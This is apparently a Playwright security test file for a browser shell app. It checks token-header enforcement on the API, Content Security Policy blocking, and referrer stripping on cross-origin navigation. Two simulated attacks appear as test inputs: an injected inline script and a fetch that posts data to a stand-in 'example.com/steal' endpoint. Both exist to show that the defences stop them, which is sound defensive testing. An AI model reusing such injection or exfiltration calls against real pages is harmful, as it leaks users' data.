import { expect, test } from './fixtures/web-shell.ts';

test.describe('browser shell security, seen from the page', () => {
  test.use({ allowedConsoleErrors: /401 \(Unauthorized\)|Content Security Policy|CSP violation/ });

  test('the API refuses calls without the token, even from the app’s own origin', async ({
    page,
    shell,
  }) => {
    await page.goto(shell.url);
    await expect(page.getByTestId('document')).toHaveCount(5);

    const statuses = await page.evaluate(async (token) => {
      const post = (headers: Record<string, string>) =>
        fetch('/api/call/listDocuments', { method: 'POST', headers, body: '{}' }).then(
          (r) => r.status,
        );
      return {
        none: await post({ 'Content-Type': 'application/json' }),
        wrong: await post({ 'X-Duibiao-Token': 'not-the-token' }),
        right: await post({ 'X-Duibiao-Token': token }),
      };
    }, shell.token);
    // The page holds the bridge's cookie: a call with the cookie alone must still be refused.
    expect(statuses).toEqual({ none: 401, wrong: 401, right: 200 });
  });

  test('the CSP blocks injected inline scripts and connections to other origins', async ({
    page,
    shell,
  }) => {
    await page.goto(shell.url);
    await expect(page.getByTestId('document')).toHaveCount(5);

    await page.evaluate(() => {
      const w = window as { __violations?: string[] };
      w.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        w.__violations!.push(e.effectiveDirective),
      );
    });

    const injected = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__pwned = true';
      document.head.append(script);
      return (window as { __pwned?: boolean }).__pwned ?? false;
    });
    expect(injected).toBe(false);

    const exfiltrated = await page.evaluate(() =>
      fetch('http://example.com/steal', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(exfiltrated).toBe('blocked');
    await expect
      .poll(async () => {
        const seen = await page.evaluate(
          () => (window as { __violations?: string[] }).__violations,
        );
        return [...new Set(seen)].sort();
      })
      .toEqual(['connect-src', 'script-src-elem']);
  });

  test('a page navigation to another origin does not reach it', async ({ page, shell }) => {
    // A browser tab cannot refuse its own navigation; what matters is that nothing of the app's
    // state travels with it: the token is gone from the address and the API needs the header.
    await page.goto(shell.url);
    await expect(page.getByTestId('document')).toHaveCount(5);
    expect(page.url()).not.toContain(shell.token);
    await page.route('http://example.com/**', (route) => route.fulfill({ body: 'elsewhere' }));
    const referer = page.waitForRequest('http://example.com/**');
    await page.evaluate(() => (location.href = 'http://example.com/'));
    const request = await referer;
    // Referrer-Policy: no-referrer — the other origin learns nothing about the bridge.
    expect(request.headers()['referer']).toBeUndefined();
    expect(request.url()).not.toContain(shell.token);
  });
});
